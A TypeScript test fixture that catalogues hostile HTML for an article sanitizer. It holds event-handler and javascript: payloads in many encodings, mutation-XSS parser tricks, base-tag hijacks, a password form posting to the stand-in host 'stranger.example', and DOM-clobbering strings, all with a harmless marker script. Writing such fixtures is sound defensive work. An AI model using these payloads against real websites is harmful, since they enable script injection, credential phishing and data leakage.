import { isTooHeavy } from '@/kit/article/weight';

/**
 * Articles that try to do more than articles may (S-7, S-8, S-9): every class of attack in public collections, each written from
 * scratch. If one ran, it would set `hostile` on the window; if one made a request, it would go to `stranger.example`.
 */
const RUN = 'globalThis.hostile=1';
const OUT = 'https://stranger.example';

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus autofocus tabindex=1',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontoggle open',
  'onbeforetoggle popover',
  'onscrollend',
  'oncontentvisibilityautostatechange style=content-visibility:auto',
  'onpageshow',
  'ONERROR',
  'on\u0000error',
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhvc3RpbGU9MTwvc2NyaXB0Pg==`,
  `view-source:${OUT}`,
  `blob:${OUT}/1`,
  `file:///etc/hosts`,
];

/**
 * Elements that never end, and elements where they may not be: parsers move them, and what follows. Each is a whole article, because
 * many of them swallow the rest of theirs.
 */
export const UNCLOSED_HTML: readonly string[] = [
  `<base href="${OUT}/"`,
  `<base href="${OUT}/"><base target=_top href="${OUT}/b">`,
  `<BASE\nHREF=${OUT}/>`,
  `<base/href="${OUT}/">`,
  `<p title="<base href='${OUT}/'>`,
  `<table><base href="${OUT}/"><tr><td>x`,
  `<svg><base href="${OUT}/"><p>x`,
  `<select><base href="${OUT}/"><option>x`,
  `<template><base href="${OUT}/">x`,
  `<frameset><base href="${OUT}/">`,
  `<video src="${OUT}/a.mp4"`,
  `<video src="${OUT}/a.mp4">x<p>y`,
  `<Video\tautoplay src=${OUT}/a.mp4><source src=${OUT}/b.mp4><b>x`,
  `<video/src="${OUT}/a.mp4"/autoplay>`,
  `<table><video src="${OUT}/a.mp4"><td>x`,
  `<svg><video src="${OUT}/a.mp4"><g>x`,
  `<math><mi><video src="${OUT}/a.mp4">x`,
  `<b><video src="${OUT}/a.mp4"></b>x<p>y`,
  `<audio src="${OUT}/a.mp3" autoplay>x<audio src="${OUT}/b.mp3">`,
  `<audio><source src="${OUT}/a.mp3"><track src="${OUT}/a.vtt" default>x`,
  `<noscript><video src="${OUT}/a.mp4">x`,
  `<svg><script>${RUN}`,
  `<svg><script>${RUN}<p>x`,
  `<svg><script>${RUN}<g>x</g></svg>y`,
  `<svg><g><script>a<b>${RUN}</b></script></g>x`,
  `<svg><script><![CDATA[${RUN}]]>x<a>y</a>`,
  `<svg><foreignObject><script>${RUN}`,
  `<math><mi><script>${RUN}<p>x`,
  `<table><svg><script>${RUN}<td>x`,
  `<table><script>${RUN}</script>x<td>y`,
  `<b><svg><script>${RUN}</b>x<p>y`,
  `<script>${RUN}`,
  `<script src="${OUT}/a.js"`,
  `<style>*{background:url(${OUT}/a.gif)}`,
  `<iframe src="${OUT}">x`,
  `<object data="${OUT}/a.svg"><p>x`,
  `<embed src="${OUT}/a.swf"`,
  `<link rel=stylesheet href="${OUT}/a.css"`,
  `<form action="${OUT}"><input name=x><p>y`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'"`,
  `<p style="background:url(${OUT}/a.gif)`,
  `<a href="javascript:${RUN}">x<p>y<a href="javascript:${RUN}">`,
  `<img src="${OUT}/a.gif" onerror="${RUN}`,
  `<!-- x <img src=x onerror="${RUN}">`,
  `<textarea><video src="${OUT}/a.mp4">`,
  `<title><base href="${OUT}/">`,
  `</video></base></audio></script></svg></p></table>x`,
];

/** Each is the whole content of an article. */
export const HOSTILE_HTML: readonly string[] = [
  // Scripts, under every name.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUT}/a.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `</p></article><script>${RUN}</script>`,
  `<script type="module">import "${OUT}/a.js"</script>`,
  `<script type="importmap">{"imports":{"react":"${OUT}/a.js"}}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${OUT}/a.js"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<noscript><img src=x onerror="${RUN}"></noscript>`,

  // Attributes that run.
  ...EVENTS.map((event) => `<img src=x ${event}="${RUN}">`),
  ...EVENTS.map((event) => `<details ${event}="${RUN}"><summary>x</summary></details>`),
  `<p onclick="${RUN}" onmouseover="${RUN}">x</p>`,
  `<table onload="${RUN}"><tbody><tr><td onclick="${RUN}">x</td></tr></tbody></table>`,
  `<a href="https://example.com" onclick="${RUN}">x</a>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src=x\u000Conerror=${RUN}>`,
  `<img src="x" alt="\`\`onerror=${RUN}">`,
  `<body onload="${RUN}"><p>x</p></body>`,
  `<html onmouseover="${RUN}">x</html>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<x-card onfocus="${RUN}" tabindex=0 autofocus>x</x-card>`,

  // Addresses that run.
  ...SCHEMES.map((address) => `<a href="${address}">x</a>`),
  ...SCHEMES.map((address) => `<img src="${address}" alt="x">`),
  `<a href="https://example.com" ping="${OUT}">x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"/></svg>`,

  // Requests to other hosts, without a script.
  `<img src="${OUT}/pixel.gif" alt="A pixel">`,
  `<img src="//stranger.example/pixel.gif">`,
  `<img src="\\\\stranger.example/pixel.gif">`,
  `<img src="https://trusted@stranger.example/pixel.gif">`,
  `<img srcset="${OUT}/a.gif 1x" src="x">`,
  `<img lowsrc="${OUT}/a.gif" dynsrc="${OUT}/b.gif">`,
  `<picture><source srcset="${OUT}/a.gif"><img src="${OUT}/b.gif"></picture>`,
  `<video poster="${OUT}/a.gif"><source src="${OUT}/a.mp4"><track src="${OUT}/a.vtt" default></video>`,
  `<audio src="${OUT}/a.mp3" autoplay></audio>`,
  `<input type=image src="${OUT}/a.gif">`,
  `<table background="${OUT}/a.gif"><tbody><tr><td background="${OUT}/b.gif">x</td></tr></tbody></table>`,
  `<body background="${OUT}/a.gif">x</body>`,
  `<link rel=stylesheet href="${OUT}/a.css">`,
  `<link rel=preconnect href="${OUT}"><link rel=dns-prefetch href="${OUT}">`,
  `<link rel=prefetch href="${OUT}/a"><link rel=manifest href="${OUT}/a">`,
  `<style>@import url(${OUT}/a.css);*{background:url(${OUT}/a.gif)}</style>`,
  `<p style="background:url(${OUT}/a.gif)">x</p>`,
  `<p style="background-image:image-set('${OUT}/a.gif' 1x)">x</p>`,
  `<p style="list-style-image:url(${OUT}/a.gif);cursor:url(${OUT}/b.cur),auto">x</p>`,
  `<svg><image href="${OUT}/a.svg"/></svg>`,
  `<svg><filter><feImage href="${OUT}/a.svg"/></filter></svg>`,
  `<svg><rect fill="url(${OUT}/a.svg#x)"/></svg>`,
  `<svg><style>@import '${OUT}/a.css'</style></svg>`,
  `<iframe src="${OUT}"></iframe><frameset><frame src="${OUT}"></frameset>`,
  // Frames replace the whole body and leave nothing for the sanitizer to look at.
  `<frameset onload="${RUN}"><frame src="${OUT}"></frameset>`,
  `<div><frameset onpageshow="${RUN}"></div>`,
  `<iframe srcdoc="<img src='${OUT}/a.gif'>"></iframe>`,
  `<object data="${OUT}/a.svg"></object><embed src="${OUT}/a.swf"><applet code="${OUT}/a"></applet>`,
  `<portal src="${OUT}"></portal><fencedframe></fencedframe>`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
  `<base href="${OUT}/"><img src="a.gif"><a href="a">x</a>`,

  // Taking over the page: covering it, asking for passwords, or shadowing its own names.
  `<div style="position:fixed;inset:0;z-index:9999">over</div>`,
  `<p class="dialog overlay" id="root">x</p>`,
  `<a id=root name=root>x</a><img name=getElementById><form id=body><input name=attributes></form>`,
  `<img id=location><img name=cookie><a id=config><a id=config name=api href="${OUT}">`,
  `<form action="${OUT}"><label>Password<input name=password autofocus></label></form>`,
  `<dialog open>Sign in again</dialog>`,
  `<p role="alert" aria-live="assertive" data-theme="x" contenteditable tabindex=0>x</p>`,
  `<p accesskey="s" draggable=true dropzone=copy is="x-y" slot="a" part="b">x</p>`,
  `<button popovertarget="x" commandfor="x" command="show-modal">x</button>`,
  `<plaintext><img src=x onerror="${RUN}">`,

  // Text that means something else when it’s parsed a second time.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><p><img src=x onerror="${RUN}"></p></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><table><svg><style><image/onerror="${RUN}" href=x>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if IE]><img src=x onerror="${RUN}"><![endif]-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${OUT}/a.css"?><p>x</p>`,
  `<p title="&lt;img src=x onerror=${RUN}&gt;">&lt;img src=x onerror="${RUN}"&gt;</p>`,
  `<p>\u0000<img \u0000src=x on\u0000error=${RUN}></p>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `${'<b>'.repeat(600)}<img src=x onerror="${RUN}">${'</b>'.repeat(600)}`,
  `${'<form><h1>'.repeat(60)}<img src=x onerror="${RUN}">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
];

/** The host that none of them may reach. */
export const STRANGER = 'stranger.example';

/**
 * All of them in one article, apart from those that would freeze a page: of an article with one of these, only the words are shown
 * (S-9).
 */
export const HOSTILE_ARTICLE = HOSTILE_HTML.filter((html) => !isTooHeavy(html)).join('\n');
